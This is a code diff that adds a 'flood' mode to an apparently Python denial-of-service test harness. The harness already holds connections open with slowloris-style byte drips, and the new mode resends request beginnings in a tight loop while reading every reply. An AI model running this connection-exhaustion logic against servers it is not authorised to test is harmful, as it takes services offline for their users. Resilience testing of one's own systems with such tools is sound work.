@@ -27,6 +27,7 @@ class Attack:
     """So many clients that send a beginning, and then a byte every so many seconds.
 
     With no byte they neither send nor read. `again`: who is thrown out comes back at once.
+    `flood`: they send the beginning again and again without a pause, and read every answer.
     """
 
     count: int
@@ -34,6 +35,7 @@ class Attack:
     byte: str = "x"
     every: float = 0.5
     again: bool = True
+    flood: bool = False
 
 
 @dataclass
@@ -137,6 +139,8 @@ class _Campaign:
                 self._missing -= 1
                 if not self._missing:
                     self._begun.set()
+            if attack.flood:
+                return await _flood(connection, attack, report)
             if not attack.byte:
                 return await _sleep(connection)
             return await _drip(connection, attack, report)
@@ -173,6 +177,25 @@ async def _drip(connection: socket.socket, attack: Attack, report: Report) -> st
         return (await answer)[9:12].decode() or "closed"
     finally:
         answer.cancel()
+
+
+async def _flood(connection: socket.socket, attack: Attack, report: Report) -> str:
+    loop = asyncio.get_running_loop()
+
+    async def read_answers() -> str:
+        while await loop.sock_recv(connection, 65_536):
+            pass
+        return "closed"
+
+    answers = asyncio.create_task(read_answers())
+    beginning = attack.beginning.encode("latin-1")
+    try:
+        while not answers.done():
+            await loop.sock_sendall(connection, beginning)
+            report.sent += len(beginning)
+        return answers.result()
+    finally:
+        answers.cancel()
 
 
 def main(url: str, specification: str) -> None:
